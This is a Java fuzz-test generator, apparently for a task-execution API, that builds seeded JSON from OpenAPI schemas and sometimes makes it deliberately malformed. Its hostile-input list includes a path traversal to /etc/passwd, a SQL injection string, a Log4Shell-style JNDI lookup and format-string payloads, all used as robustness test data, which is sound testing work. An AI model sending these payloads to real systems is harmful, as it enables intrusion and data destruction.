package org.millrace.tes;

import com.fasterxml.jackson.databind.JsonNode;
import java.math.BigInteger;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * JSON text made from a schema of an OpenAPI document: right where chance says so, and otherwise
 * wrong in the ways that JSON, and those who write it, allow. The same seed makes the same text.
 *
 * @param document where schemas refer to
 * @param crooked how often, from 0 for never to 1, something is wrong at a place
 */
record GeneratedJson(JsonNode document, Random random, double crooked) {
  /** Of fields that are more than any text. */
  private static final Map<String, List<String>> FITTING =
      Map.of(
          "path", List.of("/data/in", "/a b", "/é", "/x/*", "/x/[a]?"),
          "path_prefix", List.of("/x", "/"),
          "url", List.of("http://host.example/x", "https://u:p@host.example/?sig=1", "/tmp/x"),
          "workdir", List.of("/w", "/"),
          "stdin", List.of("/data/in"),
          "stdout", List.of("/out/o"),
          "stderr", List.of("/out/e"),
          "volumes", List.of("/v", "/v/w"),
          "runtime", List.of("sandbox", "container"));

  private static final List<String> HOSTILE_TEXTS =
      List.of(
          "",
          " ",
          "\0",
          "a\0b",
          "a\nb\r\n",
          "\u001b[2J",
          "\\ud800",
          "\\udc00\\ud800",
          "\ufeff\u202e\u2028",
          "\ud83d\ude00",
          "../../etc/passwd",
          "/../..",
          "//",
          "'; DROP TABLE task; --",
          "%s%n%00",
          "${jndi:ldap://host.example/x}",
          "null",
          "http://[::1",
          "s3://",
          "http://a:b@c:99999/%zz",
          "RUNNING");

  private static final List<String> HOSTILE_NUMBERS =
      List.of(
          "-1",
          "0",
          "-0",
          "1.5",
          "1e400",
          "-1e400",
          "1e-400",
          "2147483648",
          "9223372036854775808",
          BigInteger.TEN.pow(900).toString(),
          "1e999999999",
          "0.1e-999999999",
          "NaN",
          "01",
          "Infinity");

  private static final List<String> OTHER_TYPES =
      List.of("null", "true", "0", "1.0", "\"\"", "[]", "{}", "[null]", "[[]]", "{\"\":null}");

  /** A value of this schema, or nearly. */
  String value(JsonNode schema) {
    return value(schema, "");
  }

  private String value(JsonNode given, String name) {
    JsonNode schema = resolved(given);
    if (isCrooked()) {
      return random.nextInt(20) == 0 ? nested() : any(OTHER_TYPES);
    }
    return switch (schema.path("type").asText()) {
      case "object" -> object(schema, name);
      case "array" -> array(schema.path("items"), name);
      case "integer" -> isCrooked() ? any(HOSTILE_NUMBERS) : Integer.toString(random.nextInt(9));
      case "number" -> isCrooked() ? any(HOSTILE_NUMBERS) : random.nextInt(90) / 8.0 + "";
      case "boolean" -> random.nextBoolean() + "";
      default -> quoted(text(schema, name));
    };
  }

  private JsonNode resolved(JsonNode schema) {
    JsonNode one = schema.has("allOf") ? schema.path("allOf").path(0) : schema;
    return one.has("$ref") ? document.at(one.path("$ref").asText().substring(1)) : one;
  }

  private String object(JsonNode schema, String name) {
    var object = new StringBuilder("{");
    List<String> required = schema.path("required").valueStream().map(JsonNode::asText).toList();
    schema
        .path("properties")
        .properties()
        .forEach(property -> {
          boolean wanted = required.contains(property.getKey()) || random.nextInt(3) == 0;
          if (wanted != isCrooked()) {
            field(object, property.getKey(), value(property.getValue(), property.getKey()));
            if (isCrooked()) {
              field(object, property.getKey(), value(property.getValue(), property.getKey()));
            }
          }
        });
    JsonNode more = schema.path("additionalProperties");
    for (int i = more.isObject() ? random.nextInt(3) : 0; i > 0; i--) {
      String key = random.nextInt(4) == 0 ? "runtime" : text(more, name);
      field(object, key, value(more, key));
    }
    if (isCrooked()) {
      field(object, any(HOSTILE_TEXTS), any(OTHER_TYPES));
    }
    return object.append('}').toString();
  }

  private void field(StringBuilder object, String name, String value) {
    object.append(object.length() > 1 ? "," : "").append(quoted(name)).append(':').append(value);
  }

  private String array(JsonNode items, String name) {
    int most = isCrooked() ? 300 : 3;
    int size = Math.max(random.nextInt(most), name.equals("executors") && !isCrooked() ? 1 : 0);
    var array = new StringBuilder("[");
    for (int i = 0; i < size && array.length() < 100_000; i++) {
      array.append(i > 0 ? "," : "").append(value(items, name));
    }
    return array.append(']').toString();
  }

  /** Text for a place of this name, not quoted. */
  String text(JsonNode given, String name) {
    JsonNode schema = resolved(given);
    if (isCrooked()) {
      return random.nextInt(10) == 0
          ? any(HOSTILE_TEXTS).repeat(random.nextInt(500))
          : any(HOSTILE_TEXTS);
    }
    List<String> words = schema.path("enum").valueStream().map(JsonNode::asText).toList();
    if (!words.isEmpty()) {
      return any(words);
    }
    return any(FITTING.getOrDefault(name, List.of("a", "alpine:3", "two words", "é😀", "x=y")));
  }

  /** Lists and objects in each other, as deep as nobody needs. */
  private String nested() {
    int depth = 1 + random.nextInt(5_000);
    return random.nextBoolean()
        ? "[".repeat(depth) + "]".repeat(depth)
        : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
  }

  /** Escapes that stand in the text already, as of half a surrogate pair, stay. */
  private String quoted(String text) {
    var quoted = new StringBuilder("\"");
    text.chars()
        .forEach(c -> {
          boolean plain = c >= ' ' && c != '"';
          quoted.append(plain || isCrooked() ? Character.toString(c) : "\\u%04x".formatted(c));
        });
    return quoted.append('"').toString();
  }

  boolean isCrooked() {
    return random.nextDouble() < crooked;
  }

  <T> T any(List<T> list) {
    return list.get(random.nextInt(list.size()));
  }
}
